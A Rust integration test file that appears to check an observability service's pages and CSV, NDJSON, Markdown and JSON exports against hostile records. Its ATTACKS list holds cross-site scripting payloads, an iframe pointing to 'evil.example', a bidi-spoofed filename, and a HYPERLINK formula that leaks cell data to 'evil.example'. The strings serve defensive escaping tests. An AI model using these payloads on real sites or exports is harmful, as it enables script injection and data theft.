//! Records whose every text is an attack: stored, shown on every page, taken away in every form, harmlessly.

use serde_json::{Value, json};

use fieldpost::central::store::Role;

use crate::support::browser::Browser;
use crate::support::fieldpost::{TestCentral, client};
use crate::support::hands;
use crate::support::records::{Record, claude_session, request};

use super::seen::every_kind_of_page;
use super::{ENVIRONMENT, values};

/// What a record may hold to make a browser, a spreadsheet or a person do something.
const ATTACKS: [&str; 8] = [
    "<script>globalThis.pwned=1</script>",
    "<img src=x onerror=\"globalThis.pwned=1\">",
    "<svg onload=globalThis.pwned=1><script>alert(1)</script></svg>",
    "\" autofocus onfocus=globalThis.pwned=1 x=\"",
    "javascript:globalThis.pwned=1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "user\u{202e}txt.exe\u{2066}\u{200b}\u{feff}\u{0}",
    "```\n</textarea></details></pre><iframe src=//evil.example></iframe>",
];

/// Sessions in which every text that a client can choose is one of the attacks.
fn sessions() -> Vec<Record> {
    let long = "A prompt of sixty kilobytes, with <b>markup</b>. ".repeat(1_250);
    let mut records = Vec::new();
    for (place, attack) in ATTACKS.iter().enumerate() {
        let session = format!("hostile-{place} {attack}");
        let mut of_session = claude_session(&format!("{attack}@example.com"), &session, 10);
        for record in &mut of_session {
            record.body = (*attack).to_owned();
            for key in ["tool_name", "model", "response", "terminal.type", "prompt"] {
                if record.attributes.contains_key(key) {
                    record.attributes[key] = (*attack).into();
                }
            }
            record
                .attributes
                .insert("workspace.host_paths".to_owned(), json!([attack]));
            record
                .attributes
                .insert((*attack).to_owned(), (*attack).into());
            record
                .attributes
                .insert("error".to_owned(), (*attack).into());
            let parameters =
                json!({"mcp_server_name": attack, "mcp_tool_name": attack, "command": attack});
            record
                .attributes
                .insert("tool_parameters".to_owned(), parameters.to_string().into());
            record.attributes.insert(
                "tool_input".to_owned(),
                json!({"command": attack}).to_string().into(),
            );
        }
        of_session[5].attributes["prompt"] = format!("{attack} {long}").into();
        records.extend(of_session);
    }
    records
}

async fn filled(directory: &std::path::Path) -> (TestCentral, Browser) {
    let central = TestCentral::start(directory).await;
    let bearer = central.install().await.authorization_header;
    let mut body = request(&sessions());
    let resource = &mut body["resourceLogs"][0];
    for key in ["service.name", "host.name", "os.type"] {
        let attribute = json!({"key": key, "value": {"stringValue": ATTACKS[0]}});
        resource["resource"]["attributes"]
            .as_array_mut()
            .expect("attributes")
            .push(attribute);
    }
    resource["scopeLogs"][0]["scope"]["version"] = ATTACKS[1].into();
    let sent = client()
        .post(format!("{}/v1/logs", central.url))
        .header("authorization", &bearer)
        .header("content-type", "application/json")
        .body(body.to_string())
        .send()
        .await
        .expect("the service answers");
    assert!(sent.status().is_success());
    let hostile = |place: usize| {
        let attack = ATTACKS[place];
        let attribute = |key: &str| json!({"key": key, "value": {"stringValue": attack}});
        let keys = [
            "user.email",
            "session.id",
            "host.name",
            "fieldpost.edge.id",
            attack,
        ];
        keys.map(attribute)
    };
    let metrics = (0..ATTACKS.len()).map(|place| {
        json!({"resource": {"attributes": hostile(place)}, "scopeMetrics": [{"metrics": [{
            "name": ATTACKS[place],
            "gauge": {"dataPoints": [{"asInt": "1", "attributes": hostile(place)}]},
        }]}]})
    });
    let body = json!({"resourceMetrics": metrics.collect::<Value>()});
    central.post(&bearer, "metrics", body.to_string()).await;
    let spans = (0..ATTACKS.len()).map(|place| {
        json!({"resource": {"attributes": hostile(place)}, "scopeSpans": [{"spans": [{
            "traceId": "0612b0f1453ed699574c5de6d34a9f01",
            "spanId": "8c906887a0899de8",
            "name": ATTACKS[place],
            "attributes": hostile(place),
            "status": {"code": 2, "message": ATTACKS[place]},
        }]}]})
    });
    let body = json!({"resourceSpans": spans.collect::<Value>()});
    central.post(&bearer, "traces", body.to_string()).await;
    let browser = central.sign_in(Role::Owner).await;
    (central, browser)
}

/// Real Chromium opens every kind of page, each with everything unfolded: no script of a record runs, nothing
/// from elsewhere is asked for, the policy has nothing to stop.
#[tokio::test(flavor = "multi_thread")]
async fn no_page_does_what_a_record_says() {
    let directory = tempfile::tempdir().expect("a temporary directory");
    let (central, browser) = filled(directory.path()).await;
    let mut pages = every_kind_of_page(&browser).await;
    let list = browser
        .get(&format!("{ENVIRONMENT}/observability?type=session"))
        .await;
    let sessions = values(&list.body, "<th scope=\"row\" class=\"when\"><a href=\"");
    assert_eq!(sessions.len(), ATTACKS.len());
    for (place, session) in sessions.into_iter().enumerate() {
        pages.insert(format!("session-{place}"), session.into());
    }
    for (name, path) in &pages {
        let path = path.as_str().expect("a path");
        let page = browser.get(path).await;
        assert!(
            page.body.len() < 200_000,
            "{name}: {} bytes",
            page.body.len()
        );
        for attack in [
            "<script>g",
            "<img src=x",
            "<svg onload",
            "<iframe",
            "\u{202e}",
            "\u{200b}",
        ] {
            let shown = without_fields(&page.body);
            assert!(!shown.contains(attack), "{name} has {attack:?}");
        }
    }
    let wrong = hands::run(
        "look.mjs",
        &browser,
        json!({ "pages": pages, "axe": false }),
    )
    .await;
    assert!(wrong.is_empty(), "{wrong}");
    central.stop().await;
}

/// A page without the values of its fields: they hold a filter exactly as it is.
fn without_fields(html: &str) -> String {
    let mut shown = html.to_owned();
    for value in values(html, " value=\"") {
        shown = shown.replace(&format!(" value=\"{value}\""), "");
    }
    shown
}

/// The cells of a line of CSV.
fn cells(csv: &str) -> Vec<String> {
    let (mut cells, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
    let mut characters = csv.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if is_quoted && characters.next_if_eq(&'"').is_some() => cell.push('"'),
            '"' => is_quoted = !is_quoted,
            ',' | '\n' if !is_quoted => cells.push(std::mem::take(&mut cell)),
            character => cell.push(character),
        }
    }
    cells
}

/// Every export: no cell is a formula, every line is whole, texts are as long as they were.
#[tokio::test(flavor = "multi_thread")]
async fn no_export_does_what_a_record_says() {
    let directory = tempfile::tempdir().expect("a temporary directory");
    let (central, browser) = filled(directory.path()).await;
    for export in [
        "observability/export",
        "observability/export?type=session",
        "exports/agents",
        "exports/owners",
        "exports/tools",
        "exports/mcp-tools",
        "exports/models",
        "exports/directories",
        "exports/machines",
        "exports/versions",
        "exports/tokens",
        "exports/views",
        "exports/people",
        "exports/keys",
        "signals/metrics/export",
        "signals/traces/export",
    ] {
        let (path, kind) = export.split_once('?').unwrap_or((export, ""));
        let path = format!("{ENVIRONMENT}/{path}");
        let kind = kind.strip_prefix("type=").unwrap_or_default();
        let csv = browser
            .post(&path, &[("format", "csv"), ("type", kind)])
            .await;
        assert_eq!(csv.status, 200, "{export}");
        let name = csv.header("content-disposition");
        assert!(
            name.starts_with("attachment; filename=\"fieldpost-") && name.is_ascii(),
            "{name}"
        );
        for cell in cells(&csv.body) {
            let is_formula = cell.trim_start().starts_with(['=', '+', '-', '@']);
            assert!(!is_formula, "{export}: {cell}");
        }
        let ndjson = browser
            .post(&path, &[("format", "ndjson"), ("type", kind)])
            .await;
        let lines: Vec<Value> = ndjson
            .body
            .lines()
            .map(|line| serde_json::from_str(line).expect("a line of JSON"))
            .collect();
        let rows = lines.last().expect("a manifest")["manifest"]["rows"]
            .as_u64()
            .expect("a count");
        assert_eq!(rows as usize, lines.len() - 1, "{export}");
    }
    let list = browser
        .get(&format!("{ENVIRONMENT}/observability?type=session"))
        .await;
    for session in values(&list.body, "<th scope=\"row\" class=\"when\"><a href=\"") {
        let path = format!("{session}/export");
        let markdown = browser.post(&path, &[("format", "markdown")]).await;
        assert_eq!(markdown.status, 200, "{}", markdown.body);
        let mut fence: Option<usize> = None;
        for line in markdown.body.lines() {
            let ticks = line.len() - line.trim_start_matches('`').len();
            match fence {
                None if ticks >= 3 => fence = Some(ticks),
                Some(open) if ticks >= open && line.trim_matches('`').is_empty() => fence = None,
                None => {
                    let plain: String = line.split('`').step_by(2).collect();
                    assert!(!plain.contains('<'), "{line}");
                }
                Some(_) => {}
            }
        }
        assert_eq!(fence, None, "every fence is closed");
        let whole = browser.post(&path, &[("format", "json")]).await;
        let whole: Value = serde_json::from_str(&whole.body).expect("JSON");
        assert!(
            whole["turns"].to_string().len() > 60_000,
            "the long prompt is there"
        );
    }
    central.stop().await;
}
